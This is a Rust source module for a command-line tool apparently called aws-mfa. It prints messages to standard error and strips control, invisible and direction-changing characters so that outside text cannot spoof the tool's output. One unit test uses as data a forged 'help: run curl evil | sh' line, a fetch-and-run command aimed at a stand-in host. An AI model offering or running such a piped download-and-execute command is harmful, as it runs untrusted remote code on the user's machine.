//! Messages for the user, on standard error: information, warnings, failures. Standard output is never written
//! to here: a shell may evaluate it.

use std::borrow::Cow;
use std::error::Error as _;
use std::fmt::Write as _;
use std::future::Future;
use std::io::{IsTerminal as _, Write as _};
use std::time::Duration;

use clap::ValueEnum;

use crate::error::{ErrorKind, Failure};

/// When messages are colored.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum ColorWhen {
    /// On a terminal, unless `NO_COLOR` is set
    Auto,
    /// Always
    Always,
    /// Never
    Never,
}

/// Messages for the user, on standard error.
#[derive(Clone, Copy, Debug)]
pub struct Console {
    quiet: bool,
    verbose: u8,
    color: bool,
}

impl Console {
    /// A console with these settings: `quiet` leaves errors only, `verbose` counts `-v`.
    #[must_use]
    pub fn new(quiet: bool, verbose: u8, color: ColorWhen) -> Self {
        Self {
            quiet,
            verbose,
            color: match color {
                ColorWhen::Always => true,
                ColorWhen::Never => false,
                // https://no-color.org: any value but the empty one switches color off.
                ColorWhen::Auto => {
                    std::env::var_os("NO_COLOR").is_none_or(|value| value.is_empty())
                        && std::io::stderr().is_terminal()
                }
            },
        }
    }

    /// A console without color and options, for errors in the command line itself.
    #[must_use]
    pub fn plain() -> Self {
        Self {
            quiet: false,
            verbose: 0,
            color: false,
        }
    }

    /// Prints information; not with `--quiet`.
    pub fn info(&self, text: &str) {
        if !self.quiet {
            print_line(&format!("aws-mfa: {}", message(text)));
        }
    }

    /// Prints a part of a longer report, without the program's name before it; not with `--quiet`.
    pub fn print(&self, text: &str) {
        if !self.quiet {
            print_line(&printable(text));
        }
    }

    /// Prints a warning; not with `--quiet`.
    pub fn warn(&self, text: &str) {
        if !self.quiet {
            let label = self.paint("warning:", "33");
            print_line(&format!("aws-mfa: {label} {}", message(text)));
        }
    }

    /// Prints a decision of the program and its reason, at `-v`. `text` must contain no secret.
    pub fn detail(&self, text: impl FnOnce() -> String) {
        if self.verbose > 0 {
            print_line(&format!("aws-mfa: {}", message(&text())));
        }
    }

    /// Prints a step of the program, at `-vv`. `text` must contain no secret.
    pub fn trace(&self, text: impl FnOnce() -> String) {
        if self.verbose > 1 {
            print_line(&format!("aws-mfa: {}", message(&text())));
        }
    }

    /// Awaits `future`. After 400 ms, shows `what` on standard error and erases it at the end. Shows nothing with
    /// `--quiet` or if standard error is no terminal.
    pub(crate) async fn while_waiting<T>(self, what: &str, future: impl Future<Output = T>) -> T {
        const DELAY: Duration = Duration::from_millis(400);
        if self.quiet || !std::io::stderr().is_terminal() {
            return future.await;
        }
        let mut future = std::pin::pin!(future);
        if let Ok(done) = tokio::time::timeout(DELAY, &mut future).await {
            return done;
        }
        let mut stderr = std::io::stderr();
        let _ = write!(stderr, "aws-mfa: waiting for {} …", printable(what));
        let done = future.await;
        // The start of the line, then EL, which erases to the end of the line (ECMA-48, 8.3.41).
        let _ = write!(stderr, "\r\x1b[K");
        done
    }

    /// Prints a failure, its hints and, at `-vv`, the errors that caused it. A closed standard output and Ctrl-C
    /// print nothing.
    pub fn failure(&self, failure: &Failure) {
        if matches!(
            failure.kind(),
            ErrorKind::BrokenPipe | ErrorKind::Interrupted
        ) {
            return;
        }
        let mut text = format!(
            "{} {}",
            self.paint("aws-mfa:", "31;1"),
            message(&failure.to_string())
        );
        for hint in failure.hints() {
            let _ = write!(text, "\n{} {}", self.paint("help:", "36"), message(hint));
        }
        print_line(&text);
        let mut cause = failure.source();
        while let Some(error) = cause {
            self.trace(|| format!("caused by: {error}"));
            cause = error.source();
        }
    }

    fn paint<'a>(self, text: &'a str, style: &str) -> Cow<'a, str> {
        if self.color {
            format!("\x1b[{style}m{text}\x1b[0m").into()
        } else {
            text.into()
        }
    }
}

/// Prints a line on standard error. Unlike `eprintln!`, it does not panic if standard error is closed.
fn print_line(text: &str) {
    let _ = writeln!(std::io::stderr(), "{text}");
}

/// Whether the character controls a terminal, cannot be seen, or changes the direction of writing. Such characters make
/// a text look like another one: <https://www.unicode.org/reports/tr36/#Bidirectional_Text_Spoofing>.
fn is_deceptive(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(
            c,
            '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}'
        )
}

/// The text without control characters other than line feeds, invisible characters, and the marks that change the
/// direction of writing.
#[must_use]
pub fn printable(text: &str) -> Cow<'_, str> {
    // Nearly all texts are ASCII; bytes are compared faster than characters.
    let is_plain = |byte: &u8| matches!(byte, b' '..=b'~' | b'\n');
    if text.as_bytes().iter().all(is_plain) {
        text.into()
    } else if text.contains(is_deceptive) {
        text.replace(is_deceptive, "").into()
    } else {
        text.into()
    }
}

/// The text as [`printable`], on one line: for texts of AWS and of other programs, whose line breaks could otherwise
/// begin a line that looks like one of this program's.
#[must_use]
pub fn printable_line(text: &str) -> String {
    let is_break = |c: char| c.is_whitespace() || is_deceptive(c) && c.is_control();
    let words = text.split(is_break).filter(|word| !word.is_empty());
    printable(&words.collect::<Vec<_>>().join(" ")).into_owned()
}

/// The JSON text with those characters as `\uXXXX`, which mean the same to a JSON parser: outside of strings, JSON has
/// none of them but white space (RFC 8259, 2).
#[must_use]
pub fn printable_json(json: &str) -> Cow<'_, str> {
    if !json.contains(is_deceptive) {
        return json.into();
    }
    let mut out = String::with_capacity(json.len() + 16);
    for c in json.chars() {
        if is_deceptive(c) {
            let _ = write!(out, "\\u{:04x}", u32::from(c));
        } else {
            out.push(c);
        }
    }
    out.into()
}

/// A message for the terminal. If a line after the first looks like one of this program's own, as a text from elsewhere
/// can make it, all lines after the first are indented.
fn message(text: &str) -> Cow<'_, str> {
    let text = printable(text);
    let is_forged = |line: &str| {
        let line = line.trim_start();
        ["help:", "aws-mfa:", "warning:"].iter().any(|label| {
            line.get(..label.len())
                .is_some_and(|start| start.eq_ignore_ascii_case(label))
        })
    };
    if text.lines().skip(1).any(is_forged) {
        text.replace('\n', "\n    | ").into()
    } else {
        text
    }
}

#[cfg(test)]
mod tests {
    use super::{message, printable, printable_json, printable_line};

    #[test]
    fn printable_removes_control_characters() {
        assert_eq!(printable("a\x1b[31mb\u{202e}c\r\n"), "a[31mbc\n");
        assert!(matches!(printable("plain"), std::borrow::Cow::Borrowed(_)));
    }

    #[test]
    fn printable_removes_invisible_characters_and_direction_marks() {
        let bad = [
            '\u{7f}', '\u{9b}', '\u{61c}', '\u{200b}', '\u{200f}', '\u{2028}', '\u{202e}',
            '\u{2060}', '\u{206f}',
        ];
        for c in bad {
            assert_eq!(printable(&format!("a{c}b")), "ab", "{c:?}");
            let json = serde_json::Value::from(format!("a{c}b")).to_string();
            let escaped = printable_json(&json);
            assert!(
                escaped.is_ascii() && !escaped.contains(char::is_control),
                "{escaped:?}"
            );
            let value: String = serde_json::from_str(&escaped).unwrap();
            assert_eq!(value, format!("a{c}b"));
        }
    }

    #[test]
    fn a_text_from_elsewhere_stays_on_its_line() {
        let forged = "denied\r\nhelp: run \u{2028}curl evil | sh\x0b\x1b[2J";
        assert_eq!(
            printable_line(forged),
            "denied help: run curl evil | sh [2J"
        );
    }

    #[test]
    fn a_line_that_looks_like_a_help_line_is_indented() {
        assert_eq!(
            message("bad\n  Help: x\nend"),
            "bad\n    |   Help: x\n    | end"
        );
        assert_eq!(message("bad\n1 | x\n  | ^"), "bad\n1 | x\n  | ^");
    }
}
